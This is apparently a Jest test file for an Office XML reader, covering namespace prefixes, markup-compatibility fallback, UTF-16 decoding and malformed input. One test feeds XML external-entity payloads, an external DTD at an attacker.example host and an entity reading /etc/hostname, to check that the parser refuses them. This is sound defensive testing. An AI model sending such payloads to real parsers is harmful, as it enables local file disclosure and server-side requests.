import { describe, expect, test } from '@jest/globals';
import { IngestError } from '../../src/ingest/errors.js';
import { readOfficeXml, type XmlElement } from '../../src/ingest/xml.js';

function events(xml: string | Buffer): string[] {
  const seen: string[] = [];
  const describePath = (path: readonly XmlElement[]): string => path.map((e) => e.name).join('/');
  readOfficeXml(Buffer.isBuffer(xml) ? xml : Buffer.from(xml), 'test part', {
    open: (element, path) => seen.push(`open ${describePath(path)} ${JSON.stringify(element.attributes)}`),
    text: (text, path) => seen.push(`text ${describePath(path)} ${text}`),
    close: (element) => seen.push(`close ${element.name}`),
  });
  return seen;
}

describe('readOfficeXml', () => {
  test('names use the usual Office prefix whatever prefix the file declares; xmlns attributes are dropped', () => {
    const xml =
      '<doc:document xmlns:doc="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:x="urn:other">' +
      '<doc:p doc:val="1" plain="2"><x:thing>t&amp;t</x:thing></doc:p></doc:document>';
    expect(events(xml)).toEqual([
      'open w:document {}',
      'open w:document/w:p {"w:val":"1","plain":"2"}',
      'open w:document/w:p/{urn:other}thing {}',
      'text w:document/w:p/{urn:other}thing t&t',
      'close {urn:other}thing',
      'close w:p',
      'close w:document',
    ]);
  });

  test('mc:Fallback content is not reported, mc:Choice content is', () => {
    const xml =
      '<r xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent>' +
      '<mc:Choice Requires="x"><a>choice</a></mc:Choice><mc:Fallback><b>fallback<c>deeper</c></b></mc:Fallback>' +
      '</mc:AlternateContent><d>after</d></r>';
    const texts = events(xml).filter((e) => e.startsWith('text'));
    expect(texts).toEqual(['text r/mc:AlternateContent/mc:Choice/a choice', 'text r/d after']);
  });

  test('UTF-16 parts with a BOM are read', () => {
    const xml = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>Grüße 世界</a>', 'utf16le')]);
    expect(events(xml)).toContain('text a Grüße 世界');
  });

  test('any DOCTYPE is refused before the root element is reported', () => {
    for (const xml of [
      '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a>x</a>',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>',
      '<!DOCTYPE a><a/>',
    ]) {
      const seen: string[] = [];
      expect(() => readOfficeXml(Buffer.from(xml), 'test part', { open: (e) => seen.push(e.name) })).toThrow(
        new IngestError('unsafe', 'The document contains a DTD; external entities are not allowed.')
      );
      expect(seen).toEqual([]);
    }
  });

  test('malformed XML, undefined entities and invalid UTF-8 are invalid files', () => {
    for (const xml of [
      '<a><b></a>',
      '<a>&undefined;</a>',
      '<a',
      Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]),
    ]) {
      expect(() => readOfficeXml(Buffer.isBuffer(xml) ? xml : Buffer.from(xml), 'test part', {})).toThrow(
        'The file is not a valid test part.'
      );
    }
  });
});
